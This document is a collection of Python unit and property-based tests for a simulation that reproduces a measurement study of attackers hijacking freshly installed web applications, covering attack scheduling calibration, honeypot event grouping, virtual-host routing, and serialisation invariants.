        fast = run_ct_race(CtRaceConfig(deployments=150, sweep_period=2 * HOUR))
        assert fast.sweep.hijack_rate > slow.sweep.hijack_rate

    def test_slower_owners_help_both(self):
        quick = run_ct_race(
            CtRaceConfig(deployments=150, completion_mean=1 * HOUR)
        )
        slow = run_ct_race(
            CtRaceConfig(deployments=150, completion_mean=48 * HOUR)
        )
        assert slow.sweep.hijack_rate > quick.sweep.hijack_rate

    def test_table_renders(self, result):
        text = result.table().render()
        assert "ct-monitor" in text and "ipv4-sweep" in text

    def test_deterministic(self):
        a = run_ct_race(CtRaceConfig(deployments=80))
        b = run_ct_race(CtRaceConfig(deployments=80))
        assert a.ct.hijacked == b.ct.hijacked
        assert a.sweep.hijacked == b.sweep.hijacked


class TestVhostStudy:
    @pytest.fixture(scope="class")
    def result(self):
        return run_vhost_study(VhostStudyConfig())

    def test_ip_scan_undercounts(self, result):
        assert result.ip_scan_found < result.true_vulnerable_sites

    def test_domain_scan_recovers_everything(self, result):
        assert result.domain_scan_found == result.true_vulnerable_sites

    def test_undercount_factor_tracks_tenant_density(self):
        sparse = run_vhost_study(
            VhostStudyConfig(shared_hosts=80, tenants_per_host=2,
                             vulnerable_share=0.1)
        )
        dense = run_vhost_study(
            VhostStudyConfig(shared_hosts=80, tenants_per_host=16,
                             vulnerable_share=0.1)
        )
        assert dense.undercount_factor > sparse.undercount_factor

    def test_table_renders(self, result):
        assert "ip-scan (paper)" in result.table().render()


class TestVhostRouting:
    def test_host_header_selects_tenant(self):
        from repro.apps.base import AppInstance
        from repro.apps.catalog import create_instance
        from repro.net.host import Host, Service
        from repro.net.http import HttpRequest
        from repro.net.ipv4 import IPv4Address

        default = create_instance("wordpress")
        tenant = create_instance("wordpress", vulnerable=True)
        host = Host(IPv4Address.parse("93.184.216.85"))
        host.add_service(Service(
            80,
            app=AppInstance(default, 80),
            vhosts={"fresh.example": AppInstance(tenant, 80)},
        ))
        plain = host.exchange(80, __import__("repro.net.http", fromlist=["Scheme"]).Scheme.HTTP,
                              HttpRequest.get("/wp-admin/install.php"))
        assert "already installed" in plain.body
        named = host.exchange(
            80,
            __import__("repro.net.http", fromlist=["Scheme"]).Scheme.HTTP,
            HttpRequest("GET", "/wp-admin/install.php",
                        headers={"host": "fresh.example"}),
        )
        assert 'id="setup"' in named.body

    def test_unknown_host_header_falls_back_to_default(self):
        from repro.apps.base import AppInstance
        from repro.apps.catalog import create_instance
        from repro.net.host import Host, Service
        from repro.net.http import HttpRequest, Scheme
        from repro.net.ipv4 import IPv4Address

        host = Host(IPv4Address.parse("93.184.216.86"))
        host.add_service(Service(
            80,
            app=AppInstance(create_instance("wordpress"), 80),
            vhosts={"a.example": AppInstance(create_instance("grav"), 80)},
        ))
        response = host.exchange(
            80, Scheme.HTTP,
            HttpRequest("GET", "/", headers={"host": "nope.example"}),
        )
        assert "WordPress" in response.body

    def test_apps_includes_vhost_tenants(self):
        from repro.apps.base import AppInstance
        from repro.apps.catalog import create_instance
        from repro.net.host import Host, Service
        from repro.net.ipv4 import IPv4Address

        host = Host(IPv4Address.parse("93.184.216.87"))
        host.add_service(Service(
            80,
            app=AppInstance(create_instance("wordpress"), 80),
            vhosts={"a.example": AppInstance(
                create_instance("grav", vulnerable=True), 80)},
        ))
        assert {i.slug for i in host.apps()} == {"wordpress", "grav"}
        assert host.has_vulnerable_app()


class TestRecallRecovery:
    @pytest.fixture(scope="class")
    def result(self):
        from repro.experiments.packet_loss import run_recall_recovery_study
        from repro.net.population import PopulationModel, generate_internet

        internet, _geo, _census = generate_internet(
            PopulationModel(
                awe_rate=0.001, vuln_rate=0.1, background_rate=1e-7, seed=5
            )
        )
        return run_recall_recovery_study(internet, fault_rates=(0.05, 0.15))

    def test_retries_win_back_recall(self, result):
        for point in result.points:
            assert point.recall_with_retry > point.recall_without_retry

    def test_bare_recall_decays_with_fault_rate(self, result):
        bare = [point.recall_without_retry for point in result.points]
        assert bare[0] > bare[1]

    def test_retry_work_is_reported(self, result):
        for point in result.points:
            assert point.retries > 0
            assert point.recovered > 0

    def test_table_renders(self, result):
        rendered = result.table().render()
        assert "Fault rate" in rendered
        assert "Recall (retry)" in rendered
