"""Tests for the shared study configuration."""

import pytest

from repro.experiments.config import StudyConfig
from repro.util.clock import HOUR, WEEK


class TestScales:
    def test_tiny_is_smallest(self):
        tiny, default = StudyConfig.tiny(), StudyConfig.default()
        assert tiny.population.vuln_rate < default.population.vuln_rate
        assert tiny.population.awe_rate < default.population.awe_rate

    def test_paper_is_largest(self):
        default, paper = StudyConfig.default(), StudyConfig.paper()
        assert paper.population.awe_rate >= default.population.awe_rate
        assert paper.population.vuln_rate == 1.0

    def test_default_windows_match_paper(self):
        config = StudyConfig.default()
        assert config.observation_window == 4 * WEEK
        assert config.rescan_interval == 3 * HOUR

    def test_with_seed_propagates(self):
        config = StudyConfig.default().with_seed(1234)
        assert config.seed == 1234
        assert config.population.seed == 1234

    def test_with_seed_does_not_mutate_original(self):
        original = StudyConfig.default()
        original.with_seed(99)
        assert original.seed == 20210603

    def test_config_is_frozen(self):
        with pytest.raises(Exception):
            StudyConfig.default().seed = 1  # type: ignore[misc]


class TestSeedSensitivity:
    def test_different_seeds_different_populations(self):
        from repro.net.population import generate_internet

        a, _, _ = generate_internet(StudyConfig.tiny().with_seed(1).population)
        b, _, _ = generate_internet(StudyConfig.tiny().with_seed(2).population)
        assert sorted(h.ip.value for h in a.hosts()) != sorted(
            h.ip.value for h in b.hosts()
        )
