"""Tests for the attacker population and schedule calibration."""

import random

import pytest

from repro.attacker.actors import (
    BIG_SINGLE_ACTORS,
    MULTI_APP_ACTORS,
    build_attacker_population,
    expected_attack_totals,
    partition_heavy_tail,
)
from repro.attacker.engine import FIRST_ATTACK_HOURS, build_schedule
from repro.net.geo import GeoDatabase
from repro.util.clock import HOUR, MINUTE, WEEK
from repro.util.errors import ConfigError

#: Table 5 of the paper.
PAPER_ATTACKS = {
    "jenkins": 4,
    "wordpress": 9,
    "grav": 1,
    "docker": 132,
    "hadoop": 1921,
    "jupyterlab": 29,
    "jupyter-notebook": 99,
}


class TestPartition:
    def test_sums_exactly(self):
        rng = random.Random(0)
        sizes = partition_heavy_tail(174, 34, rng)
        assert sum(sizes) == 174
        assert len(sizes) == 34
        assert all(size >= 1 for size in sizes)

    def test_heavy_tailed(self):
        sizes = sorted(partition_heavy_tail(1000, 50, random.Random(1)))
        assert sizes[-1] > 5 * sizes[0]

    def test_rejects_impossible(self):
        with pytest.raises(ConfigError):
            partition_heavy_tail(3, 5, random.Random(0))


class TestCalibrationTables:
    def test_expected_totals_match_table5(self):
        assert expected_attack_totals() == PAPER_ATTACKS

    def test_total_attacks_2195(self):
        assert sum(expected_attack_totals().values()) == 2195

    def test_ten_multi_app_actors(self):
        assert len(MULTI_APP_ACTORS) == 10
        for spec in MULTI_APP_ACTORS:
            assert len(spec.plans) == 2

    def test_multi_app_actors_cause_419_attacks(self):
        assert sum(s.total_attacks for s in MULTI_APP_ACTORS) == 419

    def test_figure4_pairings(self):
        """Attackers pair Hadoop+Docker or Lab+Notebook, except actor I."""
        for spec in MULTI_APP_ACTORS:
            apps = set(spec.plans)
            assert apps in (
                {"hadoop", "docker"},
                {"jupyterlab", "jupyter-notebook"},
                {"docker", "jupyter-notebook"},  # actor I
            ), spec.name

    def test_actor_I_has_14_ips(self):
        actor_i = next(s for s in MULTI_APP_ACTORS if s.name == "actor-I")
        assert actor_i.ip_count == 14

    def test_top_hadoop_actor_719(self):
        top = max(
            (s for s in BIG_SINGLE_ACTORS if "hadoop" in s.plans),
            key=lambda s: s.plans["hadoop"].attacks,
        )
        assert top.plans["hadoop"].attacks == 719

    def test_population_materialises(self):
        attackers = build_attacker_population(random.Random(0))
        assert all(a.payload_pool for a in attackers)
        vigilantes = [a for a in attackers if a.spec.archetype == "vigilante"]
        assert len(vigilantes) == 1


class TestSchedule:
    @pytest.fixture(scope="class")
    def schedule(self):
        return build_schedule(seed=7, geo=GeoDatabase())

    def test_exact_per_app_totals(self, schedule):
        counts = {}
        for event in schedule.events:
            counts[event.slug] = counts.get(event.slug, 0) + 1
        assert counts == PAPER_ATTACKS

    def test_first_attack_times_match_table6(self, schedule):
        for slug, hours in FIRST_ATTACK_HOURS.items():
            first = min(e.time for e in schedule.events if e.slug == slug)
            assert first == pytest.approx(hours * HOUR), slug

    def test_unique_ip_count_near_160(self, schedule):
        assert 140 <= len(schedule.source_ips()) <= 175

    def test_unique_payload_groups_near_122(self, schedule):
        fingerprints = {e.payload.fingerprint for e in schedule.events}
        assert 110 <= len(fingerprints) <= 135

    def test_per_ip_spacing_exceeds_merge_window(self, schedule):
        by_ip = {}
        for event in schedule.events:
            by_ip.setdefault(event.source_ip.value, []).append(event.time)
        for times in by_ip.values():
            times.sort()
            for a, b in zip(times, times[1:]):
                assert b - a > 15 * MINUTE

    def test_all_events_within_window(self, schedule):
        assert all(0 <= e.time <= 4 * WEEK for e in schedule.events)

    def test_hadoop_constant_pressure(self, schedule):
        """Hadoop: ~20 minutes between attacks on average."""
        times = sorted(e.time for e in schedule.events if e.slug == "hadoop")
        gaps = [b - a for a, b in zip(times, times[1:])]
        mean_gap = sum(gaps) / len(gaps)
        assert mean_gap < 45 * MINUTE

    def test_jupyterlab_heats_up_late(self, schedule):
        times = [e.time for e in schedule.events if e.slug == "jupyterlab"]
        first_half = sum(1 for t in times if t < 2 * WEEK)
        second_half = sum(1 for t in times if t >= 2 * WEEK)
        assert second_half > first_half

    def test_wordpress_fluke_then_silence(self, schedule):
        times = sorted(e.time for e in schedule.events if e.slug == "wordpress")
        assert times[1] - times[0] > 1 * WEEK

    def test_geo_registered_for_every_source_ip(self):
        geo = GeoDatabase()
        schedule = build_schedule(seed=7, geo=geo)
        assert len(geo) >= len(schedule.source_ips())

    def test_deterministic_given_seed(self):
        a = build_schedule(seed=21)
        b = build_schedule(seed=21)
        assert [(e.time, e.slug) for e in a.events] == [
            (e.time, e.slug) for e in b.events
        ]

    def test_taken_ips_respected(self):
        taken = set(range(10**9, 10**9 + 10**6))
        schedule = build_schedule(seed=3, taken_ips=set(taken))
        assert not (schedule.source_ips() & taken)
