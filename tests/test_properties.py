"""Property-based tests (hypothesis) on core invariants."""

import random

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.analysis.attacks import (
    cluster_attackers,
    group_attacks,
    unique_attacks,
)
from repro.attacker.actors import partition_heavy_tail
from repro.honeypot.monitor import AuditEvent
from repro.net.ipv4 import IPv4Address
from repro.util.clock import MINUTE, SimClock
from repro.util.rand import stable_hash

# ---------------------------------------------------------------------------
# Attack grouping invariants
# ---------------------------------------------------------------------------

_event_strategy = st.builds(
    AuditEvent,
    honeypot=st.sampled_from(["hadoop", "docker", "jupyterlab"]),
    timestamp=st.floats(min_value=0, max_value=1e6, allow_nan=False),
    source_ip=st.integers(min_value=1, max_value=2**32 - 1).map(IPv4Address),
    command=st.just("cmd"),
    via=st.just("/x"),
    mechanism=st.just("m"),
    payload_fingerprint=st.integers(min_value=1, max_value=6),
)


@given(st.lists(_event_strategy, max_size=60))
def test_grouping_partitions_all_events(events):
    """Every audit event lands in exactly one attack."""
    attacks = group_attacks(events)
    assert sum(len(a.commands) for a in attacks) == len(events)


@given(st.lists(_event_strategy, max_size=60))
def test_groups_are_homogeneous(events):
    """An attack never mixes honeypots or source IPs."""
    for attack in group_attacks(events):
        assert attack.start <= attack.end
        # fingerprints non-empty, and all commands from one stream
        assert attack.fingerprints


@given(st.lists(_event_strategy, max_size=60))
def test_consecutive_commands_within_window(events):
    """Inside one attack, consecutive commands are <= 15 minutes apart."""
    by_group = group_attacks(events)
    for attack in by_group:
        own = sorted(
            e.timestamp
            for e in events
            if e.honeypot == attack.honeypot
            and e.source_ip.value == attack.source_ip
            and attack.start <= e.timestamp <= attack.end
        )
        for a, b in zip(own, own[1:]):
            assert b - a <= 15 * MINUTE + 1e-6


@given(st.lists(_event_strategy, max_size=60))
def test_unique_attacks_subset(events):
    attacks = group_attacks(events)
    uniq = unique_attacks(attacks)
    assert len(uniq) <= len(attacks)
    ids = {id(a) for a in attacks}
    assert all(id(a) in ids for a in uniq)


@given(st.lists(_event_strategy, max_size=60))
def test_unique_attacks_have_distinct_payload_sets(events):
    """No payload fingerprint appears in two unique attacks of one app."""
    seen: dict[str, set[int]] = {}
    for attack in unique_attacks(group_attacks(events)):
        already = seen.setdefault(attack.honeypot, set())
        assert not (attack.fingerprints & already)
        already.update(attack.fingerprints)


@given(st.lists(_event_strategy, max_size=60))
def test_clusters_partition_ips(events):
    """Attacker clusters never share an IP or a payload fingerprint."""
    clusters = cluster_attackers(group_attacks(events))
    all_ips: set[int] = set()
    all_fps: set[int] = set()
    for cluster in clusters:
        assert not (cluster.ips & all_ips)
        assert not (cluster.fingerprints & all_fps)
        all_ips |= cluster.ips
        all_fps |= cluster.fingerprints


@given(st.lists(_event_strategy, max_size=60))
def test_cluster_attack_counts_cover_all_attacks(events):
    attacks = group_attacks(events)
    clusters = cluster_attackers(attacks)
    assert sum(c.attack_count for c in clusters) == len(attacks)


# ---------------------------------------------------------------------------
# Heavy-tail partition
# ---------------------------------------------------------------------------

@given(
    st.integers(min_value=1, max_value=5000),
    st.integers(min_value=1, max_value=100),
    st.integers(min_value=0, max_value=2**32),
)
def test_partition_heavy_tail_properties(total, parts, seed):
    if total < parts:
        total = parts
    sizes = partition_heavy_tail(total, parts, random.Random(seed))
    assert sum(sizes) == total
    assert len(sizes) == parts
    assert min(sizes) >= 1


# ---------------------------------------------------------------------------
# Simulated clock
# ---------------------------------------------------------------------------

@given(st.lists(st.floats(min_value=0, max_value=1000, allow_nan=False), max_size=30))
def test_clock_fires_in_nondecreasing_time_order(delays):
    clock = SimClock()
    fired: list[float] = []
    for delay in delays:
        clock.schedule(delay, lambda: fired.append(clock.now))
    clock.run_all()
    assert fired == sorted(fired)
    assert len(fired) == len(delays)


# ---------------------------------------------------------------------------
# Stable hashing
# ---------------------------------------------------------------------------

@given(st.lists(st.text(max_size=30), min_size=1, max_size=5))
def test_stable_hash_is_pure(parts):
    assert stable_hash(*parts) == stable_hash(*parts)


@given(st.text(max_size=30), st.text(max_size=30))
def test_stable_hash_sensitivity(a, b):
    if a != b:
        assert stable_hash(a) != stable_hash(b)


# ---------------------------------------------------------------------------
# IPv4 round-trips under parsing/normalisation
# ---------------------------------------------------------------------------

@given(st.integers(min_value=0, max_value=2**32 - 1))
def test_slash24_contains_address(value):
    address = IPv4Address(value)
    assert address in address.slash24
    assert address.slash24.size == 256


# ---------------------------------------------------------------------------
# Knowledge-base identification is stable under observation subsets
# ---------------------------------------------------------------------------

@settings(max_examples=25, deadline=None)
@given(st.randoms(use_true_random=False))
def test_kb_identifies_superset_consistently(rng):
    """If a full observation set identifies (slug, version), adding no
    new files (subsampling) never yields a *different* app."""
    from repro.apps.catalog import create_instance
    from repro.core.fingerprint.knowledge_base import (
        build_default_knowledge_base,
        file_hash,
    )

    kb = _KB_CACHE.setdefault("kb", build_default_knowledge_base())
    app = create_instance("wordpress", version="5.4")
    observations = {
        path: file_hash(content) for path, content in app.static_files().items()
    }
    full = kb.identify(observations)
    assert full == ("wordpress", "5.4")
    keys = sorted(observations)
    subset_keys = rng.sample(keys, k=rng.randint(1, len(keys)))
    subset = {k: observations[k] for k in subset_keys}
    result = kb.identify(subset)
    assert result is not None
    assert result[0] == "wordpress"


_KB_CACHE: dict[str, object] = {}
