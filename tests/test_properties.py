"""Property-based tests (hypothesis) on core invariants."""

import pickle
import random

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.analysis.attacks import (
    cluster_attackers,
    group_attacks,
    unique_attacks,
)
from repro.attacker.actors import partition_heavy_tail
from repro.honeypot.monitor import AuditEvent
from repro.net.ipv4 import IPv4Address
from repro.util.clock import MINUTE, SimClock
from repro.util.rand import stable_hash

# ---------------------------------------------------------------------------
# Attack grouping invariants
# ---------------------------------------------------------------------------

_event_strategy = st.builds(
    AuditEvent,
    honeypot=st.sampled_from(["hadoop", "docker", "jupyterlab"]),
    timestamp=st.floats(min_value=0, max_value=1e6, allow_nan=False),
    source_ip=st.integers(min_value=1, max_value=2**32 - 1).map(IPv4Address),
    command=st.just("cmd"),
    via=st.just("/x"),
    mechanism=st.just("m"),
    payload_fingerprint=st.integers(min_value=1, max_value=6),
)


@given(st.lists(_event_strategy, max_size=60))
def test_grouping_partitions_all_events(events):
    """Every audit event lands in exactly one attack."""
    attacks = group_attacks(events)
    assert sum(len(a.commands) for a in attacks) == len(events)


@given(st.lists(_event_strategy, max_size=60))
def test_groups_are_homogeneous(events):
    """An attack never mixes honeypots or source IPs."""
    for attack in group_attacks(events):
        assert attack.start <= attack.end
        # fingerprints non-empty, and all commands from one stream
        assert attack.fingerprints


@given(st.lists(_event_strategy, max_size=60))
def test_consecutive_commands_within_window(events):
    """Inside one attack, consecutive commands are <= 15 minutes apart."""
    by_group = group_attacks(events)
    for attack in by_group:
        own = sorted(
            e.timestamp
            for e in events
            if e.honeypot == attack.honeypot
            and e.source_ip.value == attack.source_ip
            and attack.start <= e.timestamp <= attack.end
        )
        for a, b in zip(own, own[1:]):
            assert b - a <= 15 * MINUTE + 1e-6


@given(st.lists(_event_strategy, max_size=60))
def test_unique_attacks_subset(events):
    attacks = group_attacks(events)
    uniq = unique_attacks(attacks)
    assert len(uniq) <= len(attacks)
    ids = {id(a) for a in attacks}
    assert all(id(a) in ids for a in uniq)


@given(st.lists(_event_strategy, max_size=60))
def test_unique_attacks_have_distinct_payload_sets(events):
    """No payload fingerprint appears in two unique attacks of one app."""
    seen: dict[str, set[int]] = {}
    for attack in unique_attacks(group_attacks(events)):
        already = seen.setdefault(attack.honeypot, set())
        assert not (attack.fingerprints & already)
        already.update(attack.fingerprints)


@given(st.lists(_event_strategy, max_size=60))
def test_clusters_partition_ips(events):
    """Attacker clusters never share an IP or a payload fingerprint."""
    clusters = cluster_attackers(group_attacks(events))
    all_ips: set[int] = set()
    all_fps: set[int] = set()
    for cluster in clusters:
        assert not (cluster.ips & all_ips)
        assert not (cluster.fingerprints & all_fps)
        all_ips |= cluster.ips
        all_fps |= cluster.fingerprints


@given(st.lists(_event_strategy, max_size=60))
def test_cluster_attack_counts_cover_all_attacks(events):
    attacks = group_attacks(events)
    clusters = cluster_attackers(attacks)
    assert sum(c.attack_count for c in clusters) == len(attacks)


# ---------------------------------------------------------------------------
# Heavy-tail partition
# ---------------------------------------------------------------------------

@given(
    st.integers(min_value=1, max_value=5000),
    st.integers(min_value=1, max_value=100),
    st.integers(min_value=0, max_value=2**32),
)
def test_partition_heavy_tail_properties(total, parts, seed):
    if total < parts:
        total = parts
    sizes = partition_heavy_tail(total, parts, random.Random(seed))
    assert sum(sizes) == total
    assert len(sizes) == parts
    assert min(sizes) >= 1


# ---------------------------------------------------------------------------
# Simulated clock
# ---------------------------------------------------------------------------

@given(st.lists(st.floats(min_value=0, max_value=1000, allow_nan=False), max_size=30))
def test_clock_fires_in_nondecreasing_time_order(delays):
    clock = SimClock()
    fired: list[float] = []
    for delay in delays:
        clock.schedule(delay, lambda: fired.append(clock.now))
    clock.run_all()
    assert fired == sorted(fired)
    assert len(fired) == len(delays)


# ---------------------------------------------------------------------------
# Stable hashing
# ---------------------------------------------------------------------------

@given(st.lists(st.text(max_size=30), min_size=1, max_size=5))
def test_stable_hash_is_pure(parts):
    assert stable_hash(*parts) == stable_hash(*parts)


@given(st.text(max_size=30), st.text(max_size=30))
def test_stable_hash_sensitivity(a, b):
    if a != b:
        assert stable_hash(a) != stable_hash(b)


# ---------------------------------------------------------------------------
# IPv4 round-trips under parsing/normalisation
# ---------------------------------------------------------------------------

@given(st.integers(min_value=0, max_value=2**32 - 1))
def test_slash24_contains_address(value):
    address = IPv4Address(value)
    assert address in address.slash24
    assert address.slash24.size == 256


# ---------------------------------------------------------------------------
# Knowledge-base identification is stable under observation subsets
# ---------------------------------------------------------------------------

@settings(max_examples=25, deadline=None)
@given(st.randoms(use_true_random=False))
def test_kb_identifies_superset_consistently(rng):
    """If a full observation set identifies (slug, version), adding no
    new files (subsampling) never yields a *different* app."""
    from repro.apps.catalog import create_instance
    from repro.core.fingerprint.knowledge_base import (
        build_default_knowledge_base,
        file_hash,
    )

    kb = _KB_CACHE.setdefault("kb", build_default_knowledge_base())
    app = create_instance("wordpress", version="5.4")
    observations = {
        path: file_hash(content) for path, content in app.static_files().items()
    }
    full = kb.identify(observations)
    assert full == ("wordpress", "5.4")
    keys = sorted(observations)
    subset_keys = rng.sample(keys, k=rng.randint(1, len(keys)))
    subset = {k: observations[k] for k in subset_keys}
    result = kb.identify(subset)
    assert result is not None
    assert result[0] == "wordpress"


_KB_CACHE: dict[str, object] = {}


# ---------------------------------------------------------------------------
# Pickle round-trips of shard state
#
# The process executor ships every shard-state component across the
# pickle boundary (the ShardRunner into workers, nothing back but JSON).
# A component is process-safe iff a pickled clone is *behaviourally*
# equivalent: the same subsequent inputs must produce the same subsequent
# outputs and serialised state as the original.
# ---------------------------------------------------------------------------


def _clone(obj):
    return pickle.loads(pickle.dumps(obj))


@given(
    st.lists(st.floats(min_value=0, max_value=100, allow_nan=False), max_size=10),
    st.lists(st.floats(min_value=0, max_value=100, allow_nan=False), max_size=10),
)
def test_simclock_pickle_round_trip(before, after):
    clock = SimClock()
    for delta in before:
        clock.advance(delta)
    twin = _clone(clock)
    assert twin.now == clock.now
    for delta in after:
        clock.advance(delta)
        twin.advance(delta)
    assert twin.now == clock.now


@given(st.integers(min_value=0, max_value=2**32), st.integers(min_value=0, max_value=50))
def test_seeded_rng_pickle_round_trip(seed, draws):
    rng = random.Random(stable_hash(seed, "shard", 3))
    for _ in range(draws):
        rng.random()
    twin = _clone(rng)
    assert [twin.random() for _ in range(20)] == [rng.random() for _ in range(20)]
    assert twin.getstate() == rng.getstate()


@given(
    st.lists(st.integers(min_value=0, max_value=4), min_size=1, max_size=8),
    st.lists(st.integers(min_value=0, max_value=4), min_size=1, max_size=8),
)
@settings(max_examples=30, deadline=None)
def test_retry_executor_pickle_round_trip(before_failures, after_failures):
    """Drive a pickled executor clone with the failure script the
    original sees; stats, breaker verdicts, and backoff draws must not
    diverge."""
    from repro.core.retry import CircuitBreaker, RetryExecutor, RetryPolicy
    from repro.util.errors import ConnectionTimeout, TransportError

    def build():
        clock = SimClock()
        return RetryExecutor(
            RetryPolicy(max_attempts=3, base_delay=0.5, max_delay=4.0),
            rng=random.Random(stable_hash(7, "retry")),
            clock=clock,
            breaker=CircuitBreaker(clock=clock),
        )

    def drive(executor, failures):
        outcomes = []
        for host, count in enumerate(failures):
            ip = IPv4Address.parse(f"198.51.{100 + host}.7")
            remaining = [count]

            def op():
                if remaining[0] > 0:
                    remaining[0] -= 1
                    raise ConnectionTimeout("injected")
                return "ok"

            try:
                outcomes.append(executor.call(ip, op))
            except TransportError as exc:
                outcomes.append(type(exc).__name__)
        return outcomes

    executor = build()
    drive(executor, before_failures)
    twin = _clone(executor)
    assert drive(twin, after_failures) == drive(executor, after_failures)
    assert twin.stats.to_dict() == executor.stats.to_dict()


@given(
    st.lists(st.integers(min_value=0, max_value=2**32 - 1), max_size=20),
    st.lists(st.integers(min_value=0, max_value=2**32 - 1), max_size=20),
    st.integers(min_value=1, max_value=3),
    st.integers(min_value=1, max_value=3),
)
def test_quarantine_pickle_round_trip(before, after, host_threshold, block_threshold):
    from repro.core.supervisor import Quarantine

    ledger = Quarantine(host_threshold, block_threshold)
    for value in before:
        ledger.strike(value)
    twin = _clone(ledger)
    assert twin.hosts == ledger.hosts and twin.blocks == ledger.blocks
    for value in after:
        assert twin.is_quarantined(value) == ledger.is_quarantined(value)
        assert twin.strike(value) == ledger.strike(value)
    assert twin.hosts == ledger.hosts and twin.blocks == ledger.blocks


@given(
    st.lists(st.sampled_from(["debug", "info", "warn", "error"]), max_size=15),
    st.lists(st.sampled_from(["debug", "info", "warn", "error"]), max_size=15),
)
def test_event_log_pickle_round_trip(before, after):
    from repro.obs.events import EventLog

    log = EventLog(clock=SimClock())
    for index, level in enumerate(before):
        log.clock.advance(1.0)
        log.emit(level, "stage", f"event-{index}", host=None, n=index)
    twin = _clone(log)
    for index, level in enumerate(after):
        for target in (log, twin):
            target.clock.advance(1.0)
            target.emit(level, "stage", f"late-{index}", host=None, n=index)
    assert twin.to_jsonl() == log.to_jsonl()
    assert twin.suppressed == log.suppressed
    assert twin.snapshot_state() == log.snapshot_state()


@given(
    st.lists(st.floats(min_value=0, max_value=120, allow_nan=False), max_size=15),
    st.lists(st.floats(min_value=0, max_value=120, allow_nan=False), max_size=15),
)
def test_metrics_registry_pickle_round_trip(before, after):
    from repro.obs.metrics import MetricsRegistry

    def feed(registry, values):
        for value in values:
            registry.counter("probes_total", stage="masscan").inc()
            registry.gauge("inflight").set(value)
            registry.histogram("latency_seconds").observe(value)

    registry = MetricsRegistry()
    feed(registry, before)
    twin = _clone(registry)
    feed(registry, after)
    feed(twin, after)
    assert twin.snapshot_state() == registry.snapshot_state()
    assert twin.to_prometheus() == registry.to_prometheus()


class _SpanStub:
    """The four attributes FlightRecorder.record reads from a span."""

    def __init__(self, name, host, start, duration):
        self.name = name
        self.start = start
        self.duration = duration
        self.attrs = {"host": host, "port": 80}


@given(
    st.lists(st.floats(min_value=0, max_value=600, allow_nan=False), max_size=30),
    st.lists(st.floats(min_value=0, max_value=600, allow_nan=False), max_size=30),
)
def test_flight_recorder_pickle_round_trip(before, after):
    from repro.obs.flight import FlightRecorder

    def feed(recorder, durations, base):
        for index, duration in enumerate(durations):
            span = _SpanStub(
                "probe:http", f"203.0.113.{index % 200}",
                float(base + index), duration,
            )
            recorder.record(span, events=(), exchange_mark=recorder.exchange_mark())

    recorder = FlightRecorder(capacity=4)
    feed(recorder, before, base=0)
    twin = _clone(recorder)
    feed(recorder, after, base=1000)
    feed(twin, after, base=1000)
    assert twin.to_dict() == recorder.to_dict()
    assert twin.probes_seen == recorder.probes_seen
    assert twin.snapshot_state() == recorder.snapshot_state()


# ---------------------------------------------------------------------------
# Interval algebra vs a set-of-ints oracle
# ---------------------------------------------------------------------------

_interval_run = st.integers(min_value=0, max_value=4000).flatmap(
    lambda start: st.tuples(
        st.just(start), st.integers(min_value=start, max_value=start + 600)
    )
)
_interval_set = st.lists(_interval_run, max_size=8)


def _oracle(runs) -> set[int]:
    values: set[int] = set()
    for start, end in runs:
        values.update(range(start, end + 1))
    return values


@given(_interval_set)
def test_interval_normalisation_preserves_membership(runs):
    """Merging and sorting runs never changes the member set."""
    from repro.net.intervals import IntervalSet

    s = IntervalSet(runs)
    oracle = _oracle(runs)
    assert set(s.iter_values()) == oracle
    assert len(s) == len(oracle)
    # Canonical form: sorted, disjoint, non-adjacent.
    for (_, prev_end), (next_start, _) in zip(s.runs, s.runs[1:]):
        assert next_start > prev_end + 1


@given(_interval_set, _interval_set)
def test_interval_algebra_matches_set_algebra(a_runs, b_runs):
    """union/intersect/difference agree with Python set semantics."""
    from repro.net.intervals import IntervalSet

    a, b = IntervalSet(a_runs), IntervalSet(b_runs)
    a_oracle, b_oracle = _oracle(a_runs), _oracle(b_runs)
    assert set(a.union(b).iter_values()) == a_oracle | b_oracle
    assert set(a.intersect(b).iter_values()) == a_oracle & b_oracle
    assert set(a.difference(b).iter_values()) == a_oracle - b_oracle


@given(_interval_set, st.integers(min_value=0, max_value=5000))
def test_interval_membership_matches_oracle(runs, probe):
    from repro.net.intervals import IntervalSet

    assert (probe in IntervalSet(runs)) == (probe in _oracle(runs))


@given(
    _interval_set,
    st.integers(min_value=0, max_value=5000),
    st.integers(min_value=0, max_value=1200),
)
def test_interval_range_queries_match_oracle(runs, start, width):
    from repro.net.intervals import IntervalSet

    s = IntervalSet(runs)
    end = start + width
    expected = sorted(v for v in _oracle(runs) if start <= v <= end)
    assert s.values_in(start, end) == expected
    assert s.count_in(start, end) == len(expected)


@given(_interval_set)
def test_interval_block_views_match_oracle(runs):
    """block_bases/block_values/block_counts agree with the member set."""
    from repro.net.intervals import BLOCK_MASK, IntervalSet

    s = IntervalSet(runs)
    oracle = _oracle(runs)
    bases = sorted({value & BLOCK_MASK for value in oracle})
    assert s.block_bases() == bases
    counts = s.block_counts()
    assert list(counts) == bases
    for base in bases:
        members = sorted(v for v in oracle if v & BLOCK_MASK == base)
        assert s.block_values(base) == members
        assert counts[base] == len(members)


@given(_interval_set, st.integers(min_value=0, max_value=3000))
def test_interval_take_is_lowest_prefix(runs, count):
    from repro.net.intervals import IntervalSet

    s = IntervalSet(runs)
    taken = set(s.take(count).iter_values())
    expected = set(sorted(_oracle(runs))[:count])
    assert taken == expected


@given(_interval_set)
def test_interval_serialisation_round_trip(runs):
    from repro.net.intervals import IntervalSet

    s = IntervalSet(runs)
    assert IntervalSet.from_dict(s.to_dict()) == s
    assert IntervalSet.from_values(s.iter_values()) == s
