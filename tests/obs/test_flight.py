"""Tests for the slowest-probe flight recorder."""

import json

import pytest

from repro.obs.flight import DEFAULT_CAPACITY, FlightRecorder, _record_key
from repro.obs.telemetry import Telemetry
from repro.obs.trace import Span
from repro.util.clock import SimClock


def probe_span(duration, start=0.0, host="10.0.0.1", port=80, name="probe:x"):
    span = Span(
        span_id=0, parent_id=None, name=name, start=start,
        end=start + duration, attrs={"host": host, "port": port},
    )
    return span


def record_probe(flight, duration, **kwargs):
    flight.record(probe_span(duration, **kwargs), (), flight.exchange_mark())


class TestRecorder:
    def test_keeps_the_slowest_capacity_records(self):
        flight = FlightRecorder(capacity=3)
        for duration in (1.0, 5.0, 2.0, 4.0, 3.0):
            record_probe(flight, duration)
        assert [r["duration"] for r in flight.records] == [5.0, 4.0, 3.0]
        assert len(flight) == 3
        assert flight.probes_seen == 5

